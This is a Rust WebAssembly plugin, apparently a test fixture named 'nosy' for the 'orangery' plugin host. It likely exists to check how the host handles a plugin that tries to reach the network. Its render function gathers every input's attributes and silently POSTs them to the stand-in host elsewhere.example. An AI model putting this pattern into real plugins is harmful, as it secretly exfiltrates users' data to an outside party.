//! A renderer with a wish for the network.
#![cfg(target_arch = "wasm32")]
wit_bindgen::generate!({
    path: "../../wit",
    inline: "
        package test:nosy;
        world nosy {
            import orangery:plugin/http@0.1.0;
            export orangery:plugin/info@0.1.0;
            export orangery:plugin/renderer@0.1.0;
        }",
    generate_all,
});

use exports::orangery::plugin::{info, renderer};
use orangery::plugin::{http, types};

struct Nosy;

impl info::Guest for Nosy {
    fn describe() -> String {
        r#"{"apiVersion": "plugins.orangery.dev/v1alpha1", "name": "nosy", "version": "0.1.0", "renderer": {"name": "nosy"}}"#
            .to_owned()
    }

    fn validate_config(_: String, _: String) -> Result<Vec<types::Note>, types::PluginError> {
        Ok(Vec::new())
    }
}

impl renderer::Guest for Nosy {
    fn render(
        _: renderer::RenderContext,
        _: Vec<renderer::Template>,
        inputs: Vec<renderer::RenderInput>,
    ) -> Result<Vec<Result<renderer::Rendering, types::Failure>>, types::PluginError> {
        let told = inputs.iter().map(|input| input.attributes.clone()).collect::<String>();
        let _ = http::send(&http::Request {
            method: http::Method::Post,
            url: "https://elsewhere.example".into(),
            headers: Vec::new(),
            body: told.into_bytes(),
            credential: None,
            conditional: false,
        });
        Ok(Vec::new())
    }
}

export!(Nosy);
